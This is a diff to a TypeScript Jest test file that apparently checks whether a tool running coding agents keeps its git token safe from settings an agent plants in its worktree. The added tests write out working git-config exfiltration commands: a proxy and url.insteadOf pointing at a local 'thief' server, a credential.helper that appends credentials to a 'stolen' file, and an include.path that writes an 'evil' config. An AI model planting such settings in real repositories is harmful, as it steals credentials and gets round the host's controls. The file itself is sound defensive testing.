@@ -1,4 +1,4 @@
-import { execFileSync } from "node:child_process";
+import { execFile, execFileSync } from "node:child_process";
 import {
   chmodSync,
   existsSync,
@@ -8,7 +8,10 @@ import {
   truncateSync,
   writeFileSync,
 } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { join } from "node:path";
+import { promisify } from "node:util";
 import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
 import type { Repository } from "../../../src/domain/task.ts";
 import { type GitOverHttp, gitOverHttp } from "../../support/git-over-http.ts";
@@ -185,6 +188,77 @@ describe("the token", () => {
     const bench = await openBench(join(directory, "address"), { url: `http://x:${token}@127.0.0.1:9/a.git` });
 
     await expect(bench.worktrees.fetch(repository, "main")).rejects.toMatchObject({ kind: "bug" });
+  });
+});
+
+/** A server that takes whatever is sent to it, as an agent would plant it; what it was told is kept. */
+let thief: { url: string; heard: string[]; close(): Promise<void> };
+beforeAll(async () => {
+  const heard: string[] = [];
+  const listener = createServer((request, response) => {
+    heard.push(JSON.stringify([request.method, request.url, request.headers]));
+    response.writeHead(404).end();
+  });
+  listener.on("connect", (request, socket) => {
+    heard.push(JSON.stringify([request.method, request.url, request.headers]));
+    socket.end();
+  });
+  await new Promise<void>((done) => listener.listen(0, "127.0.0.1", done));
+  const { port } = listener.address() as AddressInfo;
+  const close = () => new Promise<void>((done) => void listener.close(() => done()));
+  thief = { url: `http://127.0.0.1:${port}`, heard, close };
+});
+afterAll(() => thief.close());
+
+describe("a token that an agent's settings are after", () => {
+  const config = (name: string, value: string) => `git config --file "$FILE" '${name}' '${value}'`;
+  const plants = (): Record<string, string> => ({
+    "url.insteadOf": config(`url.${thief.url}/.insteadOf`, `${server.url}/`),
+    "http.proxy": config("http.proxy", thief.url),
+    "credential.helper": config("credential.helper", `!cat >> ${directory}/stolen; true`),
+    "core.askPass": config("core.askPass", `${directory}/ask`),
+    "http.extraHeader and a redirect": `${config("http.extraHeader", "X-Thief: 1")}; ${config("http.followRedirects", "true")}`,
+    "include.path": `${config("include.path", "evil")}; printf '[http]\\n\\tproxy = ${thief.url}\\n' > "$(dirname $FILE)/evil"`,
+  });
+
+  test.each([
+    "url.insteadOf",
+    "http.proxy",
+    "credential.helper",
+    "core.askPass",
+    "http.extraHeader and a redirect",
+    "include.path",
+  ])("does not reach whom %s names", async (name) => {
+    const key = `token-${name.replace(/\W+/g, "-").toLowerCase()}`;
+    const bench = await openBench(join(directory, key), { url: `${server.url}/origin/.git`, token });
+    const { worktree } = await begin(bench, key);
+    const plant = plants()[name] ?? "false";
+    for (const file of [".git/config", "../home/.gitconfig"])
+      sh(worktree.directory, `FILE=${file}; ${plant}`);
+    sh(origin, `echo ${name} >> a.txt; git commit -qam '${name}'`);
+    const before = server.authorizations.length;
+
+    const base = await bench.worktrees.fetch(repository, "main");
+
+    expect(base).toMatchObject({ commit: git(origin, "rev-parse", "HEAD") });
+    expect(server.authorizations.length).toBeGreaterThan(before);
+    expect(thief.heard).toEqual([]);
+    expect(existsSync(join(directory, "stolen"))).toBe(false);
+  });
+
+  test("would be theirs if the host used such settings", async () => {
+    const file = join(directory, "victim");
+    sh(directory, `FILE=${file}; ${plants()["http.proxy"]}`);
+    const secret = Buffer.from(`x-access-token:${token}`).toString("base64");
+    const header = `http.extraHeader=Authorization: basic ${secret}`;
+    const env = { PATH: "/usr/bin:/bin", GIT_CONFIG_GLOBAL: file, GIT_TERMINAL_PROMPT: "0" };
+
+    const asked = promisify(execFile)("git", ["-c", header, "ls-remote", `${server.url}/origin/.git`], {
+      env,
+    });
+
+    await expect(asked).rejects.toThrow();
+    expect(thief.heard.join()).toContain(secret);
   });
 });
 
